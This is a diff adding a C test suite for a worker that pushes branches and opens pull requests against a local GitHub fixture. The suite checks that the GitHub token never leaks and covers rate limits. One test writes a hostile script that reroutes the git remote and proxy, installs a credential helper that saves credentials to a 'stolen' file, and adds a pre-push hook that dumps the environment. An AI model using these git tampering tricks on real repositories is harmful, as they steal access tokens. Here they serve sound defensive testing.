@@ -1,0 +1,487 @@
+/*
+ * test_exec_push.c - the real opc-exec-run pushing and opening pull
+ * requests against opc-fixture-github: git over HTTP that asks for
+ * credentials as GitHub does (401, Basic, the token as password), and the
+ * pulls API with its rate limits.  The repository is a bare one under the
+ * fixture's --git-root; the worker clones http://127.0.0.1:<port>/acme/
+ * demo.git.  A `git` wrapper first on PATH records every git command the
+ * worker runs (its argv, and whether the token was in its environment),
+ * so the test can say where the token went: the credential helper's
+ * environment of the clone and the push, nowhere else.  KEEP=1 keeps
+ * each test's directory.
+ */
+#include <errno.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+#include <jansson.h>
+
+#include "opc/util.h"
+
+#ifndef EXEC_RUN_BIN
+#error EXEC_RUN_BIN must name the opc-exec-run binary
+#endif
+
+#define BRANCH "goal/T-1-abcdef12"
+#define TOKEN "ghp_pushTestToken0123456789"
+#define RO_TOKEN "ghp_readOnlyToken0123456789"
+
+struct fx {
+	char *root, *bare, *ws, *req, *out, *gitlog;
+	pid_t gh;
+	int   port;
+};
+
+static int sh(const char *fmt, ...) PRINTFLIKE(1, 2);
+
+/* sh runs a test command through system(3) (the test's own shell only). */
+static int
+sh(const char *fmt, ...)
+{
+	va_list ap;
+	char   *cmd;
+	int     n, st;
+
+	va_start(ap, fmt);
+	n = vsnprintf(NULL, 0, fmt, ap);
+	va_end(ap);
+	cmd = xmalloc((size_t) n + 1);
+	va_start(ap, fmt);
+	vsnprintf(cmd, (size_t) n + 1, fmt, ap);
+	va_end(ap);
+	st = system(cmd);
+	free(cmd);
+	return (WIFEXITED(st) ? WEXITSTATUS(st) : -1);
+}
+
+/* start runs the fixture with extra args (NULL-terminated). */
+static int
+start(struct fx *fx, const char *extra)
+{
+	char    pf[512], buf[32], *cmd;
+	int64_t deadline = mono_ms() + 5000;
+	FILE   *f;
+
+	snprintf(pf, sizeof(pf), "%s/gh.port", fx->root);
+	cmd = xasprintf("exec %s/opc-fixture-github --port-file %s --token "
+	                "%s --read-token %s --git-root %s/gh %s",
+	                FIXTURE_BIN_DIR, pf, TOKEN, RO_TOKEN, fx->root,
+	                extra ? extra : "");
+	if ((fx->gh = fork()) == 0) {
+		execl("/bin/sh", "sh", "-c", cmd, (char *) NULL);
+		_exit(127);
+	}
+	free(cmd);
+	while (mono_ms() < deadline) {
+		if ((f = fopen(pf, "r")) != NULL) {
+			if (fgets(buf, sizeof(buf), f) != NULL)
+				fx->port = atoi(buf);
+			fclose(f);
+			if (fx->port > 0)
+				return (0);
+		}
+		sleep_ms(10);
+	}
+	return (-1);
+}
+
+static int
+setup_with(void **state, const char *extra)
+{
+	struct fx *fx;
+	char       tmpl[] = "/tmp/opc-exec-push.XXXXXX", *path;
+	FILE      *f;
+
+	if (mkdtemp(tmpl) == NULL)
+		return (-1);
+	fx = xcalloc(1, sizeof(*fx));
+	*state = fx;
+	fx->root = xstrdup(tmpl);
+	fx->bare = xasprintf("%s/gh/acme/demo.git", tmpl);
+	fx->ws = xasprintf("%s/ws", tmpl);
+	fx->req = xasprintf("%s/req.json", tmpl);
+	fx->out = xasprintf("%s/result.json", tmpl);
+	fx->gitlog = xasprintf("%s/git.log", tmpl);
+	setenv("HOME", tmpl, 1);
+	setenv("GIT_CONFIG_NOSYSTEM", "1", 1);
+	unsetenv("GIT_DIR");
+	/* the recording git: argv, and whether the token is in its env */
+	path = xasprintf("%s/bin/git", tmpl);
+	if (sh("mkdir -p %s/bin", tmpl) != 0 || (f = fopen(path, "w")) == NULL)
+		return (-1);
+	fprintf(f,
+	        "#!/bin/sh\n"
+	        "printf '%%s|' \"${OPC_GIT_TOKEN:+TOKEN_IN_ENV}\" \"$@\" "
+	        ">> %s\necho >> %s\nexec /usr/bin/git \"$@\"\n",
+	        fx->gitlog, fx->gitlog);
+	fclose(f);
+	chmod(path, 0755);
+	free(path);
+	if (sh("set -e; cd %s; mkdir -p gh/acme; git init -q --bare -b main "
+	       "gh/acme/demo.git; git init -q -b main src; cd src; "
+	       "echo hello > README.md; git add -A; git -c user.name=t -c "
+	       "user.email=t@example.com commit -q -m init; git push -q "
+	       "../gh/acme/demo.git main",
+	       tmpl) != 0)
+		return (-1);
+	return (start(fx, extra));
+}
+
+static int
+setup(void **state)
+{
+	return (setup_with(state, NULL));
+}
+
+static int
+setup_public(void **state)
+{
+	return (setup_with(state, "--git-public"));
+}
+
+static int
+teardown(void **state)
+{
+	struct fx *fx = *state;
+	int        st = 0;
+
+	if (fx->gh > 0) {
+		(void) kill(fx->gh, SIGTERM);
+		(void) waitpid(fx->gh, &st, 0);
+	}
+	if (getenv("KEEP") == NULL)
+		(void) rmtree(fx->root);
+	free(fx->root);
+	free(fx->bare);
+	free(fx->ws);
+	free(fx->req);
+	free(fx->out);
+	free(fx->gitlog);
+	free(fx);
+	return (WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1);
+}
+
+static json_t *
+request(const struct fx *fx)
+{
+	char url[128], api[64];
+
+	snprintf(url, sizeof(url), "http://127.0.0.1:%d/acme/demo.git",
+	         fx->port);
+	snprintf(api, sizeof(api), "http://127.0.0.1:%d", fx->port);
+	return (json_pack(
+	    "{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:[], s:n, s:i, "
+	    "s:[], s:i, s:s, s:s, s:b, s:b, s:{s:s}, s:{s:s, s:s}, "
+	    "s:{s:s, s:s}}",
+	    "run_id", "abcdef12-0000-4000-8000-000000000001", "task_id", "T-1",
+	    "proposal_id", "p-1", "decision_id", "d-1", "goal_text",
+	    "Add the demo artifact", "repo_key", "demo", "clone_url", url,
+	    "base_branch", "main", "task_branch", BRANCH, "allowed_paths",
+	    "max_changed_files", "timeout_seconds", 60, "validation_commands",
+	    "validation_timeout_seconds", 30, "lane", "local", "backend",
+	    "demo_stub", "push_on_success", 1, "open_pr", 1, "backend_spec",
+	    "kind", "stub", "git", "author_name", "Test Bot", "author_email",
+	    "bot@example.com", "github", "api_url", api, "repo", "acme/demo"));
+}
+
+/* run runs the worker with token (NULL: none) and the recording git. */
+static json_t *
+run(const struct fx *fx, json_t *req, const char *token)
+{
+	json_error_t e;
+	json_t      *r;
+	int          rv;
+
+	assert_int_equal(json_dump_file(req, fx->req, JSON_INDENT(2)), 0);
+	rv = sh("%s%s PATH=%s/bin:$PATH %s --request %s --workspace %s "
+	        "--out %s > %s/worker.log 2>&1",
+	        token ? "OPC_GITHUB_TOKEN=" : "", token ? token : "", fx->root,
+	        EXEC_RUN_BIN, fx->req, fx->ws, fx->out, fx->root);
+	if (rv != 0)
+		(void) sh("cat %s/worker.log >&2", fx->root);
+	assert_int_equal(rv, 0);
+	if ((r = json_load_file(fx->out, 0, &e)) == NULL)
+		fail_msg("result: %s", e.text);
+	return (r);
+}
+
+static const char *
+rstr(const json_t *r, const char *key)
+{
+	return (json_string_value(json_object_get(r, key)));
+}
+
+static json_t *
+fixture(const struct fx *fx, const char *method, const char *path,
+        const char *body)
+{
+	char   *cmd = xasprintf("curl -s -X %s %s%s%s 'http://127.0.0.1:%d%s'",
+	                        method, body ? "-d '" : "", body ? body : "",
+                              body ? "'" : "", fx->port, path);
+	FILE   *p = popen(cmd, "r");
+	json_t *j = p != NULL ? json_loadf(p, 0, NULL) : NULL;
+
+	if (p != NULL)
+		pclose(p);
+	free(cmd);
+	return (j);
+}
+
+static void
+pushed(const struct fx *fx, const json_t *r)
+{
+	assert_int_equal(sh("test \"$(git --git-dir=%s rev-parse "
+	                    "refs/heads/%s)\" = %s",
+	                    fx->bare, BRANCH, rstr(r, "commit_sha")),
+	                 0);
+}
+
+/* nowhere: the token is in no file under the run's directory but the
+ * request's environment never written (argv log, result, workspace
+ * .git, worker log), nor in what the fixture recorded. */
+static void
+nowhere(const struct fx *fx, const char *token)
+{
+	json_t *st = fixture(fx, "GET", "/_fixture/state", NULL);
+	char   *dump = json_dumps(st, 0);
+
+	assert_int_not_equal(sh("grep -rqa -- '%s' %s", token, fx->root), 0);
+	assert_null(strstr(dump, token));
+	free(dump);
+	json_decref(st);
+}
+
+static void
+test_push_with_token(void **state)
+{
+	struct fx *fx = *state;
+	json_t    *req = request(fx), *r, *st, *g;
+	size_t     i;
+	int        asked = 0;
+
+	r = run(fx, req, TOKEN);
+	assert_string_equal(rstr(r, "status"), "succeeded");
+	assert_true(json_is_true(json_object_get(r, "branch_pushed")));
+	pushed(fx, r);
+	assert_non_null(
+	    strstr(rstr(r, "pull_request_url"), "/acme/demo/pull/1"));
+	assert_int_equal(
+	    json_integer_value(json_object_get(r, "pull_request_status")), 201);
+	/* git asked (401) and was answered by the helper, as x-access-token */
+	st = fixture(fx, "GET", "/_fixture/state", NULL);
+	json_array_foreach(json_object_get(st, "git"), i, g)
+	{
+		if (json_integer_value(json_object_get(g, "status")) == 401)
+			asked++;
+		else
+			assert_string_equal(rstr(g, "user"), "x-access-token");
+	}
+	assert_true(asked >= 2); /* clone and push */
+	json_decref(st);
+	/* the token: in the environment of the clone and the push only,
+	 * never in argv, a URL, .git/config, the result or a log */
+	assert_int_equal(
+	    sh("grep -c '^TOKEN_IN_ENV|' %s | grep -qx 2", fx->gitlog), 0);
+	assert_int_equal(
+	    sh("grep '^TOKEN_IN_ENV|' %s | grep -q '|clone|'", fx->gitlog), 0);
+	assert_int_equal(
+	    sh("grep '^TOKEN_IN_ENV|' %s | grep -q '|push|'", fx->gitlog), 0);
+	assert_int_equal(sh("grep -q credential.helper= %s", fx->gitlog), 0);
+	nowhere(fx, TOKEN);
+	json_decref(r);
+	json_decref(req);
+}
+
+/* The bug: a remote that needs auth, and no way for git to get it.  The
+ * push failed ("could not read Username ... terminal prompts disabled")
+ * and the run still said succeeded. */
+static void
+test_push_refused_fails_the_run(void **state)
+{
+	struct fx *fx = *state;
+	json_t    *req = request(fx), *r;
+
+	json_object_set_new(req, "open_pr", json_false());
+	r = run(fx, req, NULL);
+	assert_string_equal(rstr(r, "status"), "failed");
+	assert_false(json_is_true(json_object_get(r, "success")));
+	assert_string_equal(rstr(r, "failure_category"), "infra_tooling");
+	assert_non_null(strstr(rstr(r, "failure_reason"), "git push"));
+	assert_non_null(
+	    strstr(rstr(r, "failure_reason"), "terminal prompts disabled"));
+	assert_false(json_is_true(json_object_get(r, "branch_pushed")));
+	json_decref(r);
+	/* a token that may read, not write: GitHub's words on the board */
+	(void) rmtree(fx->ws);
+	r = run(fx, req, RO_TOKEN);
+	assert_string_equal(rstr(r, "failure_category"), "infra_tooling");
+	assert_non_null(strstr(rstr(r, "failure_reason"),
+	                       "Permission to acme/demo.git denied"));
+	nowhere(fx, RO_TOKEN);
+	json_decref(r);
+	json_decref(req);
+}
+
+/* A backend that turns the workspace's .git against the token: another
+ * remote URL, a proxy, a credential helper and a pre-push hook of its
+ * own.  The push goes to the clone URL, and none of them runs. */
+static void
+test_tampered_workspace(void **state)
+{
+	struct fx *fx = *state;
+	json_t    *req = request(fx), *r;
+	char      *path = xasprintf("%s/backend.sh", fx->root);
+	FILE      *f = fopen(path, "w");
+
+	assert_non_null(f);
+	fprintf(
+	    f,
+	    "#!/bin/sh\nset -e\n"
+	    "git config remote.origin.url http://127.0.0.1:9/evil.git\n"
+	    "git config http.proxy http://127.0.0.1:9\n"
+	    "git config credential.helper '!f() { cat > %s/stolen; }; f'\n"
+	    "printf '#!/bin/sh\\nenv > %s/hookenv\\n' > .git/hooks/pre-push\n"
+	    "chmod +x .git/hooks/pre-push\n"
+	    "echo changed > README.md\n",
+	    fx->root, fx->root);
+	fclose(f);
+	chmod(path, 0755);
+	json_object_set_new(
+	    req, "backend_spec",
+	    json_pack("{s:s, s:[s]}", "kind", "command", "argv", path));
+	json_object_set_new(req, "open_pr", json_false());
+	r = run(fx, req, TOKEN);
+	assert_string_equal(rstr(r, "status"), "succeeded");
+	pushed(fx, r);
+	assert_int_not_equal(sh("test -e %s/stolen", fx->root), 0);
+	assert_int_not_equal(sh("test -e %s/hookenv", fx->root), 0);
+	nowhere(fx, TOKEN);
+	free(path);
+	json_decref(r);
+	json_decref(req);
+}
+
+/* A secondary rate limit on the POST is waited out (retry-after: 1) and
+ * the pull request opened; a primary one that lifts in an hour is not
+ * waited for: the run fails with the reason, the branch stays pushed. */
+static void
+test_pr_rate_limits(void **state)
+{
+	struct fx *fx = *state;
+	json_t    *req = request(fx), *r;
+	int64_t    t0;
+
+	json_decref(fixture(fx, "POST", "/_fixture/rate_limit",
+	                    "{\"kind\":\"secondary\",\"count\":1,"
+	                    "\"retry_after\":1}"));
+	t0 = mono_ms();
+	r = run(fx, req, TOKEN);
+	assert_string_equal(rstr(r, "status"), "succeeded");
+	assert_non_null(rstr(r, "pull_request_url"));
+	assert_true(mono_ms() - t0 >= 1000); /* it did wait */
+	assert_int_equal(
+	    sh("grep -q 'secondary rate limit' %s/worker.log", fx->root), 0);
+	json_decref(r);
+
+	(void) rmtree(fx->ws);
+	json_object_set_new(req, "task_branch", json_string("goal/T-2-x"));
+	json_decref(fixture(fx, "POST", "/_fixture/rate_limit",
+	                    "{\"kind\":\"primary\",\"reset_in\":3600}"));
+	t0 = mono_ms();
+	r = run(fx, req, TOKEN);
+	assert_true(mono_ms() - t0 < 30000); /* not an hour */
+	assert_string_equal(rstr(r, "status"), "failed");
+	assert_false(json_is_true(json_object_get(r, "success")));
+	assert_string_equal(rstr(r, "failure_category"), "infra_tooling");
+	assert_non_null(strstr(rstr(r, "failure_reason"),
+	                       "pull request not opened: GitHub primary rate "
+	                       "limit (HTTP 403) until"));
+	assert_non_null(strstr(rstr(r, "failure_reason"), "goal/T-2-x"));
+	assert_int_equal(
+	    json_integer_value(json_object_get(r, "pull_request_status")), 403);
+	assert_true(json_is_true(json_object_get(r, "branch_pushed")));
+	assert_true(json_is_null(json_object_get(r, "pull_request_url")));
+	json_decref(r);
+	json_decref(req);
+}
+
+/* 401 on the POST: final, no retry, its status in the result (the
+ * daemon raises credential.invalid from it). */
+static void
+test_pr_refused(void **state)
+{
+	struct fx *fx = *state;
+	json_t    *req = request(fx), *r, *st;
+
+	json_decref(fixture(fx, "POST", "/_fixture/fail",
+	                    "{\"status\":401,\"count\":1}"));
+	r = run(fx, req, TOKEN);
+	assert_string_equal(rstr(r, "status"), "failed");
+	assert_int_equal(
+	    json_integer_value(json_object_get(r, "pull_request_status")), 401);
+	assert_non_null(
+	    strstr(rstr(r, "pull_request_error"), "HTTP 401: Bad credentials"));
+	st = fixture(fx, "GET", "/_fixture/state", NULL);
+	assert_int_equal(
+	    json_integer_value(json_object_get(st, "api_requests")),
+	    1); /* not retried */
+	json_decref(st);
+	json_decref(r);
+
+	json_decref(req);
+}
+
+/* Local remotes (most tests, and file://) push the same way, with or
+ * without a token, which git then never sees. */
+static void
+test_local_remote(void **state)
+{
+	struct fx *fx = *state;
+	json_t    *req = request(fx), *r;
+	char      *url = xasprintf("file://%s", fx->bare);
+
+	json_object_set_new(req, "clone_url", json_string(fx->bare));
+	json_object_set_new(req, "open_pr", json_false());
+	r = run(fx, req, TOKEN);
+	assert_string_equal(rstr(r, "status"), "succeeded");
+	pushed(fx, r);
+	assert_int_not_equal(sh("grep -q '^TOKEN_IN_ENV' %s", fx->gitlog), 0);
+	json_decref(r);
+	(void) rmtree(fx->ws);
+	json_object_set_new(req, "clone_url", json_string(url));
+	json_object_set_new(req, "task_branch", json_string("goal/T-4-x"));
+	r = run(fx, req, NULL);
+	assert_string_equal(rstr(r, "status"), "succeeded");
+	assert_true(json_is_true(json_object_get(r, "branch_pushed")));
+	json_decref(r);
+	free(url);
+	json_decref(req);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test_setup_teardown(test_push_with_token, setup,
+	                                    teardown),
+	    cmocka_unit_test_setup_teardown(test_push_refused_fails_the_run,
+	                                    setup_public, teardown),
+	    cmocka_unit_test_setup_teardown(test_tampered_workspace, setup,
+	                                    teardown),
+	    cmocka_unit_test_setup_teardown(test_pr_rate_limits, setup,
+	                                    teardown),
+	    cmocka_unit_test_setup_teardown(test_pr_refused, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_local_remote, setup, teardown),
+	};
+
+	return (cmocka_run_group_tests(tests, NULL, NULL));
+}
